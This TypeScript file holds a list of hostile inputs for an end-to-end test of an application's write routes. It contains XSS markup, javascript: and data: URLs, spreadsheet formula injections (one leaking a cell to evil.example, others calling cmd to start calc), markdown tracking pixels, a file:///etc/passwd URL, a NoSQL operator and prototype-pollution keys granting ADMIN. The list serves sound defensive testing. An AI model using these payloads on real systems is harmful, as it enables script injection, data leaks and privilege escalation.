/**
 * Hostile input, kept in the repository so every write route is tried with the same list
 * (e2e/hostile-input.spec.ts). Each entry is something a person pasting from anywhere, or
 * someone trying to break in, could send. Payloads that would run set `window.__hostile`, so a
 * browser test can tell whether any ran.
 */

/** Markup that would run, restyle or frame something if it were ever shown unescaped. */
export const MARKUP = [
  `<script>window.__hostile=1</script>`,
  `<img src=x onerror="window.__hostile=1">`,
  `<svg onload="window.__hostile=1"><circle r="9"/></svg>`,
  `"><iframe src="javascript:window.__hostile=1"></iframe>`,
  `</script><script>window.__hostile=1</script>`,
  `<a href="javascript:window.__hostile=1">a link</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__hostile=1">`,
  `<style>body{--hostile:1}</style>`,
  `{{constructor.constructor('window.__hostile=1')()}}`,
];

/** Characters that are text, but trick the eye or a naive offset: stored as they are, shown as text. */
export const UNICODE = [
  "right-to-left \u202Egnp.exe\u202C override",
  "zero\u200Bwidth\u200Cjoiners\u200D\uFEFF",
  "emoji 🧪 👩‍👩‍👧 🇫🇷 in a quote",
  "combining e\u0301 a\u0308\u0327 marks",
];

/** Cells a spreadsheet would run as a formula if a CSV export passed them on bare. */
export const FORMULAS = [`=HYPERLINK("https://evil.example/?leak="&A1,"Open")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `\t=1+1`, `\r=1+1`];

/** Markdown that would make a link run script or load something, if a report passed it on. */
export const MARKDOWN = [
  `[click me](javascript:window.__hostile=1)`,
  `[click](JaVaScRiPt:window.__hostile=1 "title")`,
  `![pixel](https://evil.example/pixel.png)`,
  `<https://evil.example/autolink>`,
  `[text](https://ok.example/a) ](javascript:window.__hostile=1)`,
  `[ref]: javascript:window.__hostile=1`,
];

/** Every text payload: each is sent alone, and all of them together in one value. */
export const TEXT_PAYLOADS = [...FORMULAS, ...MARKUP, ...UNICODE, ...MARKDOWN];
export const KITCHEN_SINK = TEXT_PAYLOADS.join("\n");
/** One of each kind, for fields with a short limit (a source's title). */
export const SHORT_SINK = [FORMULAS[0], MARKUP[0], MARKUP[1], UNICODE[0], MARKDOWN[0]].join(" ");

/** Addresses that must never be stored as a link: other schemes, hidden by case, spaces and control characters. */
export const HOSTILE_URLS = [
  "javascript:window.__hostile=1",
  "JaVaScRiPt:window.__hostile=1",
  " javascript:window.__hostile=1",
  "java\tscript:window.__hostile=1",
  "java\nscript:window.__hostile=1",
  "\u0001javascript:window.__hostile=1",
  "javascript&colon;window.__hostile=1",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ob3N0aWxlPTE8L3NjcmlwdD4=",
  "DATA:text/html,<script>window.__hostile=1</script>",
  "vbscript:msgbox(1)",
  "VBScript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/no-scheme",
  "https://user:secret@evil.example/",
];

/** Text no database column can hold. */
export const UNSTORABLE = ["nul \u0000 inside", "a lone \uD83D surrogate", "\uDE00 trailing half"];

/** A string value of a JSON body, written as raw bytes that are not UTF-8. */
export const INVALID_UTF8 = Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]);

/** Values of the wrong type for any field. */
export const WRONG_TYPES: unknown[] = [12345, -1.5e308, true, null, [], ["a", 1], {}, { $gt: "" }, "text"];

/** A JSON value nested `depth` levels deep, written directly (building it as an object could overflow a stack). */
export const deeplyNested = (depth: number) => `${"[".repeat(depth)}1${"]".repeat(depth)}`;

/** Keys that would change every object's prototype if a server merged them naively. */
export const PROTOTYPE_KEYS = [
  `"__proto__": {"role": "ADMIN", "polluted": "yes"}`,
  `"constructor": {"prototype": {"polluted": "yes"}}`,
  `"prototype": {"polluted": "yes"}`,
];
